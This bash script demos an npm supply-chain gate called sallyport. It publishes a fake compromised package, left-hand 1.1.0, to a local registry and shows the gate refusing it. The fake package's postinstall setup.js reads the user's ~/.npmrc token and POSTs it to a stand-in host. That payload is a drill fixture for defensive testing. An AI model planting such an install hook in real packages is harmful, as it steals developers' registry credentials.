#!/usr/bin/env bash
# The story in one minute, offline: an upstream whose package gains a version that steals, and a real npm that is saved.
set -euo pipefail
cd "$(dirname "$0")/.."
checkout=$PWD
scratch=${SALLYPORT_SCRATCH:-$PWD/.build}
for tool in npm python3; do command -v $tool >/dev/null || { echo "The demo needs $tool." >&2; exit 1; }; done

# What was built before may be another program than these sources: it is built again, which takes seconds then.
sallyport=${SALLYPORT_BINARY:-}
if [ -z "$sallyport" ]; then
  scripts/build.sh release
  sallyport=$scratch/release/sallyport
fi

work=$(mktemp -d)
registry=$checkout/Tests/EndToEndTests/Registry/registry.py
pids=()
finish() {
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
  wait 2>/dev/null || true
  rm -rf "$work"
}
trap finish EXIT

# Waits until a pattern stands in a file that another program writes; inotify would be a dependency more.
await() {
  local tries=0
  until grep -qE "$1" "$2" 2>/dev/null; do
    tries=$((tries + 1))
    [ $tries -lt 300 ] || { echo "Nothing came of it:" >&2; cat "$2" >&2; exit 1; }
    read -rt 0.1 <> <(:) || true
  done
}

say() { printf '\n# %s\n' "$*"; }
show() { printf '$ %s\n' "$*"; "$@" 2>&1 | grep -v -e 'A complete log' -e '^$' || true; }

# An upstream with an honest package of long ago.
python3 "$registry" npm "$work/upstream" left-hand 1.0.0 200
mkfifo "$work/input"
python3 "$registry" serve "$work/upstream" <"$work/input" >"$work/upstream.out" &
pids+=($!)
exec 3>"$work/input"
await 'listening' "$work/upstream.out"
port=$(awk '/listening/ { print $2 }' "$work/upstream.out")

# Three weeks ago somebody with a stolen account published 1.1.0.
python3 "$registry" npm "$work/upstream" left-hand 1.1.0 21 \
  'package.json={"scripts":{"postinstall":"node setup.js"}}' \
  'setup.js=const fs = require("fs"), os = require("os"), https = require("https");
const token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
const request = https.request("https://collect.example.invalid/", { method: "POST" });
request.on("error", () => {});
request.end(token);'

printf 'upstreams:\n  npm: { url: "http://127.0.0.1:%s/npm/" }\n' "$port" >"$work/sallyport.yaml"
"$sallyport" serve --listen 127.0.0.1:0 --data "$work/data" --config "$work/sallyport.yaml" >"$work/serve.out" 2>"$work/serve.log" &
pids+=($!)
await '^http://' "$work/serve.out"
url=$(grep -m1 '^http://' "$work/serve.out")

mkdir "$work/app" && cd "$work/app" && echo '{}' >package.json
export HOME=$work npm_config_registry=$url/npm/ npm_config_cache=$work/cache npm_config_update_notifier=false npm_config_fund=false
gate() {
  local command=$1
  shift
  printf '$ sallyport %s' "$command"
  printf ' %q' "$@"
  echo
  "$sallyport" "$command" "$@" --server "$url" --token-file "$work/data/token" || true
}

say "A range install gets the newest version that was admitted, and hears of the other."
show npm install left-hand@^1.0.0
say "The bad version itself is refused, with the reason in the client's own terminal."
show npm install left-hand@1.1.0
say "What was seen, and where."
gate why pkg:npm/left-hand@1.1.0
say "A person may overrule it, for a while and on the record..."
gate admit pkg:npm/left-hand@1.1.0 --reason "read it: a drill" --for 1d
show npm install left-hand@1.1.0 --ignore-scripts
say "...and take that back: the bytes are refused again, cached or not."
gate deny pkg:npm/left-hand@1.1.0 --reason "the drill is over"
rm -rf node_modules "$work/cache"
show npm ci
